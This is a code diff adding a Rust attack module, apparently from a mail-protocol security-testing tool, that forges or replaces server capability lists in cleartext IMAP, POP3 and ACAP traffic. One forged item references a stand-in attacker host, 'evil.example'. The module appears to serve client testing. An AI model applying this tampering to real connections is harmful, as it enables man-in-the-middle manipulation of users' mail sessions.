@@ -1,0 +1,56 @@
+//! Adds capabilities in the clear.
+
+use super::{Attack, Deciding, tamper};
+use crate::base::{Protocol, Side, Switch, switch};
+use crate::harm::success;
+
+switch!(
+    Middle LIST,
+    "list",
+    Setting,
+    &["extended", "overwritten"],
+    &[],
+    "Forged list",
+    "The server's list with one item more, or, in IMAP, a list of the attacker's own behind it."
+);
+
+static SWITCHES: &[&Switch] = &[&LIST];
+
+static DECIDING: &[Deciding] = &[Deciding {
+    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
+    given: &[],
+    right: &[],
+    wrong: &["client.keep-capabilities=on"],
+}];
+
+/// The attack.
+pub static ATTACK: Attack = Attack {
+    id: "forge-capability",
+    title: "Add capabilities",
+    about: "Adds a capability that the server does not have to what it lists in the clear, or puts a list of its own over it.",
+    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
+    switches: SWITCHES,
+    build: |switches, dialect| {
+        let overwrites = switches.get(&LIST) == "overwritten" && dialect.protocol == Protocol::Imap;
+        let item = match dialect.protocol {
+            Protocol::Imap => "IMAPSIEVE=sieve://evil.example",
+            Protocol::Pop3 => "EXPIRE 0",
+            Protocol::Acap => "CONTEXTLIMIT 0",
+        };
+        tamper(move |message, moves| {
+            let listed = (message.from == Side::Server)
+                .then(|| (dialect.with_items)(message.octets, &[item]))
+                .flatten();
+            match listed {
+                Some(_) if overwrites => {
+                    moves.pass();
+                    moves.add(b"* CAPABILITY IMAP4rev1 IDLE STARTTLS\r\n".to_vec());
+                }
+                Some(octets) => moves.replace(octets),
+                None => moves.pass(),
+            }
+        })
+    },
+    success: &success::FORGED_CAPABILITIES,
+    deciding: DECIDING,
+};
